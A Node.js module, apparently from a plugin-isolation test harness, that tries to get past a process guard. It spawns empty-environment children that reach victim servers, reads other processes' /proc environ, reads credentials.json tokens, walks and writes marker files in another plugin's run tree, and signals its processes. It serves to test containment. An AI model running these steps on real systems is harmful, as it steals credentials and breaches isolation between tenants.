'use strict';
// Attempts that go around this process's guard, which only an operating-system boundary
// (the plugin's own network, mount and PID view) can stop: children that do not load the
// guard (an empty environment, `env -i`, `python -I -S`), the simulator's secrets through
// /proc, the other plugin's run tree and process.
//
// Each attempt answers evidence besides its own verdict, and the harness decides on that
// (what a victim server saw, the bytes of a file it reads too, a pid it knows): a
// connection refused inside an empty network namespace, say, was not on the network.
// The other plugin is known by its id, as any plugin's is; nothing else is given.
const childProcess = require('node:child_process');
const crypto = require('node:crypto');
const fs = require('node:fs');
const path = require('node:path');

const AREA = 'containment (Node plugin)';
const OTHER_PLUGIN = 'com.powerx.attack-python';
const NETWORK = { kind: 'network' }; // the victim servers decide

// -- the network, around the guard ------------------------------------------------------

function child(command, args, options) {
  const done = childProcess.spawnSync(command, args, { encoding: 'utf8', timeout: 15000, ...options });
  if (done.error) throw done.error;
  const output = `${done.stdout}${done.stderr}`.replace(/\s+/g, ' ').trim().slice(-150); // an error's last line
  return [`exit ${done.status} ${output}`.trim(), NETWORK];
}

const nodeConnect = (host, port, marker) => `require('net').connect(${port}, ${JSON.stringify(host)}, ` +
  `function () { this.end(${JSON.stringify(`${marker}\n`)}); })`;
const nodeDatagram = (port, marker) => `const s = require('dgram').createSocket('udp4'); ` +
  `s.send(${JSON.stringify(marker)}, ${port}, '127.0.0.1', () => s.close())`;
const pythonConnect = (host, port, marker) => 'import socket; socket.create_connection(' +
  `(${JSON.stringify(host)}, ${port}), 3).sendall(${JSON.stringify(`${marker}\n`)}.encode())`;

// -- processes ----------------------------------------------------------------------------

function processTable() {
  // pid -> {parent, command} of every process this one can see in /proc.
  const table = new Map();
  for (const name of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const stat = fs.readFileSync(`/proc/${name}/stat`, 'utf8');
      const parent = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
      const command = fs.readFileSync(`/proc/${name}/cmdline`).toString().replace(/\0/g, ' ').trim();
      table.set(Number(name), { parent, command });
    } catch (error) {
      // gone, or not ours to read
    }
  }
  return table;
}

function lineage(pid, table) {
  // pid and its ancestors, nearest first.
  const found = [];
  while (table.has(pid) && !found.includes(pid)) {
    found.push(pid);
    pid = table.get(pid).parent;
  }
  return found;
}

function powerxProcesses(table) {
  // Processes whose command line mentions powerx, but this one and its descendants: its
  // ancestors first (its simulator among them), then those under its simulator.
  const mine = lineage(process.pid, table);
  const simulator = mine.find((pid) => table.get(pid).command.includes('host start'));
  const rank = (pid) => (mine.includes(pid) ? mine.indexOf(pid)
    : mine.length + Number(!lineage(pid, table).includes(simulator)));
  return [...table.keys()].filter((pid) => table.get(pid).command.includes('powerx'))
    .sort((a, b) => rank(a) - rank(b))
    .filter((pid) => !lineage(pid, table).includes(process.pid))
    .map((pid) => [pid, table.get(pid).command]);
}

function neighbours(table) {
  // The other plugins' processes: under this one's simulator, not its ancestors (every
  // powerx process but its ancestors where no simulator is among them).
  const mine = lineage(process.pid, table);
  const simulator = mine.find((pid) => table.get(pid).command.includes('host start'));
  return powerxProcesses(table).filter(([pid]) => !mine.includes(pid)
    && (simulator === undefined || lineage(pid, table).includes(simulator)));
}

function environ(pid) {
  const env = {};
  for (const item of fs.readFileSync(`/proc/${pid}/environ`).toString().split('\0')) {
    const at = item.indexOf('=');
    if (at > 0) env[item.slice(0, at)] = item.slice(at + 1);
  }
  return env;
}

function fileEvidence(file, data, owner) {
  const sha256 = crypto.createHash('sha256').update(data).digest('hex');
  return { kind: 'file', path: String(file), sha256, ...(owner ? { owner } : {}) };
}

function simulatorEnviron() {
  for (const [pid, command] of powerxProcesses(processTable())) {
    const file = `/proc/${pid}/environ`;
    try {
      const data = fs.readFileSync(file);
      if (data.includes('POWERX_STATE_DIR=') || data.includes('POWERX_CONFIG_HOME=')) {
        return [`read ${file} of ${JSON.stringify(command.slice(0, 60))}`, fileEvidence(file, data)];
      }
    } catch (error) {
      // not ours to read
    }
  }
  throw new Error("no powerx process's environment could be read");
}

function configHomes() {
  // Where `powerx login` writes, for this process's environment and every readable
  // environment of a powerx process.
  const environments = [process.env];
  for (const [pid] of powerxProcesses(processTable())) {
    try { environments.push(environ(pid)); } catch (error) { /* not ours to read */ }
  }
  const homes = [];
  for (const env of environments) {
    if (env.POWERX_CONFIG_HOME) homes.push(env.POWERX_CONFIG_HOME);
    if (env.XDG_CONFIG_HOME) homes.push(path.join(env.XDG_CONFIG_HOME, 'powerx'));
    if (env.HOME) homes.push(path.join(env.HOME, '.config', 'powerx'));
  }
  return [...new Set(homes)];
}

function credential() {
  const tried = configHomes();
  for (const home of tried) {
    const file = path.join(home, 'credentials.json');
    try {
      const data = fs.readFileSync(file);
      if ('token' in JSON.parse(data)) return [`read ${file}: a token`, fileEvidence(file, data)];
    } catch (error) {
      // not there, or not ours to read
    }
  }
  throw new Error(`no credentials.json readable in ${tried.length} config homes`);
}

function signalOther() {
  // Signal 0: delivered or refused, and nothing else happens to the process.
  const reached = [];
  for (const [pid, command] of neighbours(processTable())) {
    try {
      process.kill(pid, 0);
      reached.push([pid, command.slice(0, 120)]);
    } catch (error) {
      // refused, or gone
    }
  }
  if (!reached.length) throw new Error('no other powerx process could be signalled');
  return [`signal 0 delivered to ${reached.length} process(es)`, { kind: 'signalled', processes: reached }];
}

function visibleProcesses() {
  const seen = powerxProcesses(processTable()).map(([pid, command]) => [pid, command.slice(0, 120)]);
  if (!seen.length) throw new Error("no powerx process visible in /proc but this one's own");
  return [`${seen.length} other powerx process(es) visible`, { kind: 'visible', processes: seen }];
}

// -- run trees ----------------------------------------------------------------------------

function treeOwner(folder) {
  try {
    return String(JSON.parse(fs.readFileSync(path.join(folder, 'artefact.json'))).plugin);
  } catch (error) {
    return null;
  }
}

function ownTree() {
  for (const start of [__dirname, process.cwd()]) {
    for (let folder = path.resolve(start); ; folder = path.dirname(folder)) {
      if (treeOwner(folder) !== null) return folder;
      if (folder === path.dirname(folder)) break;
    }
  }
  throw new Error("no run tree above this plugin's files");
}

function treesUnder(folder, depth, plugin) {
  // Run trees of `plugin` at most `depth` folders below `folder`.
  if (treeOwner(folder) === plugin) return [folder];
  if (depth === 0) return [];
  let entries;
  try {
    entries = fs.readdirSync(folder, { withFileTypes: true });
  } catch (error) {
    return [];
  }
  return entries.filter((e) => e.isDirectory()).map((e) => e.name).sort()
    .flatMap((name) => treesUnder(path.join(folder, name), depth - 1, plugin));
}

function siblingTrees() {
  // The other plugin's run trees at the nearest level up from this plugin's own: the run
  // root lays them out as <project>/<digest> or <project>/<plugin id>/<digest>.
  let ancestor = ownTree();
  for (let level = 1; level <= 3; level++) {
    ancestor = path.dirname(ancestor);
    const found = treesUnder(ancestor, level, OTHER_PLUGIN);
    if (found.length) return found;
  }
  throw new Error("no run tree of the other plugin beside this plugin's own");
}

function prefixTrees() {
  const found = treesUnder(`/dev/shm/powerx-${process.getuid()}`, 3, OTHER_PLUGIN);
  if (!found.length) throw new Error('no run tree of the other plugin under /dev/shm/powerx-<uid>');
  return found;
}

function listed(trees) {
  const names = fs.readdirSync(trees[0]).sort();
  return [`listed ${trees[0]}: ${JSON.stringify(names)}`, { kind: 'tree', paths: trees }];
}

function readOther() {
  const tree = siblingTrees()[0];
  const file = path.join(tree, JSON.parse(fs.readFileSync(path.join(tree, 'artefact.json'))).runnable);
  const data = fs.readFileSync(file);
  return [`read ${data.length} bytes of ${file}`, fileEvidence(file, data, 'other')];
}

function writeMarker(tree, marker, owner) {
  // A marker file only (the harness removes it), never a change to the plugin's files.
  const file = path.join(tree, `.powerx-attack-${marker}`);
  fs.writeFileSync(file, marker);
  return [`wrote ${file}`, { kind: 'written', path: file, owner }];
}

// -- the run ------------------------------------------------------------------------------

function attempts(targets) {
  const results = [];
  function attempt(name, action) {
    const marker = `${name}_from_node`; // unique across both plugins: the victims tell them apart
    try {
      const [detail, evidence] = action(marker);
      results.push({ area: AREA, attempt: marker, through: true, detail: detail.slice(0, 300), evidence });
    } catch (error) {
      const detail = `${error && error.code}: ${error && error.message}`;
      results.push({ area: AREA, attempt: marker, through: false, detail: detail.slice(0, 300), evidence: {} });
    }
  }
  const victim = targets.victim_tcp;
  const machine = targets.machine_address;
  const bare = ['-i']; // `env -i`: no NODE_OPTIONS, no PYTHONPATH, no proxy: no guard loads

  attempt('empty_env_child_loopback', (m) => child(process.execPath, ['-e', nodeConnect('127.0.0.1', victim, m)], { env: {} }));
  if (machine) {
    attempt('empty_env_child_machine', (m) => child(process.execPath, ['-e', nodeConnect(machine, victim, m)], { env: {} }));
  }
  attempt('isolated_python', (m) => child('python3', ['-I', '-S', '-c', pythonConnect('127.0.0.1', victim, m)]));
  attempt('curl_empty_env', (m) => child('env', [...bare, 'curl', '--noproxy', '*', '-sS', '-m', '5',
    `http://127.0.0.1:${victim}/${m}`]));
  attempt('node_empty_env', (m) => child('env', [...bare, 'node', '-e', nodeConnect('127.0.0.1', victim, m)]));
  attempt('udp_bare_child', (m) => child('env', [...bare, 'node', '-e', nodeDatagram(targets.victim_udp, m)]));
  attempt('simulator_environ', simulatorEnviron);
  attempt('credentials_file', credential);
  attempt('other_tree_walking_up', () => listed(siblingTrees()));
  attempt('other_tree_by_prefix', () => listed(prefixTrees()));
  attempt('other_tree_read', readOther);
  attempt('other_tree_write', (m) => writeMarker(siblingTrees()[0], m, 'other'));
  attempt('own_tree_write', (m) => writeMarker(ownTree(), m, 'own'));
  attempt('signal_other_plugin', signalOther);
  attempt('proc_other_processes', visibleProcesses);
  return results;
}

module.exports = { attempts };
